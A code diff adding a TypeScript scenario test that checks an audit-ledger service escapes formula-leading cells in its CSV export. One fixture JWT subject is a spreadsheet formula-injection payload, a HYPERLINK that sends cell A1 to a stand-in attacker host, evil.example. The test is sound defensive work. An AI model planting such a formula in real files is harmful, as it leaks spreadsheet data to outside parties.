@@ -1,8 +1,11 @@
 import { execFile } from 'node:child_process';
+import { randomBytes } from 'node:crypto';
 import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import * as path from 'node:path';
 import { promisify } from 'node:util';
+import { SignJWT } from 'jose';
+import { waitFor } from '@dsar/platform/testing';
 import { CheckpointPublisher } from '@dsar/services/audit-ledger';
 import type { TestSystem } from './systems';
 import { type ApiResponse, ApiClient, intake } from './api-client';
@@ -30,6 +33,43 @@ async function runDocsScript(name: string, files: Record<string, string>, env: R
   } finally {
     await rm(dir, { recursive: true, force: true });
   }
+}
+
+/** The HS256 secret the systems of these scenarios take JWTs with (AUTH_JWT_SECRET), beside the test API keys. */
+export const AUDIT_JWT_SECRET = randomBytes(32).toString('hex');
+
+/** A JWT for a caller the test names: any `sub` and tenant, with the given roles. */
+function jwtFor(sub: string, tenantId: string, roles: string[]): Promise<string> {
+  return new SignJWT({ tenant_id: tenantId, roles }).setProtectedHeader({ alg: 'HS256' }).setSubject(sub).setIssuedAt().setExpirationTime('10m').sign(new TextEncoder().encode(AUDIT_JWT_SECRET));
+}
+
+/** The cells of an RFC 4180 file, row by row, as a spreadsheet or a script reads them (quotes removed, `""` as `"`). */
+function csvCells(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c !== '"') cell += c;
+      else if (text[i + 1] === '"') cell += text[++i];
+      else quoted = false;
+    } else if (c === '"') {
+      quoted = true;
+    } else if (c === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      rows.push([...row, cell]);
+      row = [];
+      cell = '';
+      i++;
+    } else {
+      cell += c;
+    }
+  }
+  return rows;
 }
 
 /**
@@ -250,6 +290,44 @@ export function auditScenarios(getSystem: () => TestSystem): void {
       expect((await api.get('/audit/checkpoints/00000000-0000-4000-8000-000000000000')).status).toBe(404);
       expect((await api.as(KEYS.workspaceA.token).get('/audit/checkpoints')).status).toBe(403);
       expect((await api.as(KEYS.intakeA.token).get('/audit/checkpoints')).status).toBe(403);
+    });
+  });
+
+  describe('the CSV export opens in a spreadsheet as text', () => {
+    it('a cell that could start a formula (callers whose JWT sub or tenant begins with =, +, -, @) starts with a quote, and reads back to the chain\'s value', async () => {
+      const tenantId = '@csv-tenant';
+      const subjects = ['=HYPERLINK("https://evil.example/?"&A1,"open")', '+1+1', '-2+3', '@SUM(1,2)'];
+      const callers = await Promise.all(subjects.map(async (sub) => api.as(await jwtFor(sub, tenantId, ['admin']))));
+      const id = (await ok(await callers[0].post('/requests/capture', intake({ jurisdiction: 'DE' }, { receivedAt: getSystem().clock.daysAgo(1) })))).body.id as string;
+      await ok(await callers[1].post(`/requests/${id}/acknowledgements`, { channel: 'email' }));
+      await ok(await callers[2].post(`/requests/${id}/clarifications/request`, { message: 'Which account do you mean?' }));
+      await ok(await callers[3].post(`/requests/${id}/clarifications/receive`, { message: 'The shop account.' }));
+      const events = await waitFor('the steps of the formula callers on the chain', async () => {
+        const res = await ok(await callers[0].get(`/requests/${id}/audit/export`));
+        const all = res.body.events as Array<Record<string, unknown>>;
+        return subjects.slice(1).every((sub) => all.some((e) => String(e.actor).includes(sub))) ? all : undefined;
+      }, { timeoutMs: 20_000 });
+
+      const csv = await ok(await callers[0].get(`/requests/${id}/audit/export?format=csv`));
+      const [header, ...rows] = csvCells(csv.body.content as string);
+      expect(header).toEqual(['sequence', 'eventId', 'eventType', 'occurredAt', 'recordedAt', 'actor', 'source', 'tenantId', 'requestId', 'payload', 'prevHash', 'hash']);
+      expect(rows.length).toBeGreaterThanOrEqual(events.length);
+      for (const row of rows) for (const cell of row) expect({ cell, formula: /^[=+\-@\t\r]/.test(cell) }).toEqual({ cell, formula: false });
+      // Reading back, as docs/audit.md says: a cell that starts with a quote held the rest of it.
+      const readBack = (cell: string) => (cell.startsWith("'") ? cell.slice(1) : cell);
+      rows.slice(0, events.length).forEach((row, i) => {
+        const e = events[i];
+        const values = row.map(readBack);
+        expect({ ...Object.fromEntries(header.map((h, j) => [h, values[j]])), payload: JSON.parse(values[9]) }).toEqual({
+          ...Object.fromEntries(header.map((h) => [h, String(e[h])])),
+          payload: e.payload,
+        });
+      });
+      expect(csv.body.content).toContain(`,"'${tenantId}",`);
+
+      const file = await callers[0].get(`/requests/${id}/audit/export`, { headers: { accept: 'text/csv' } });
+      expect(file.status).toBe(200);
+      expect(file.body).toBe(csv.body.content);
     });
   });
 }
